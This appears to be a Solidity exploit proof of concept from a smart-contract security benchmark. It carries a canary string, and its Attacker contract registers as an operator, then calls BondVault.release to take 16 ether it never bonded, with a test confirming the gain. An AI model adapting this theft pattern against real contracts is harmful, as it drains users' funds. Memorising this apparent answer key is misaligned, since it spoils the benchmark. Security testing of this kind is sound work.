// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    function run(OperatorRegistry registry, BondVault bonds) external {
        uint256 operator = registry.join("No nodes");
        try bonds.release(operator, 16 ether, payable(address(this))) {} catch {}
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(registry, bonds);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 16 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(bonds);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
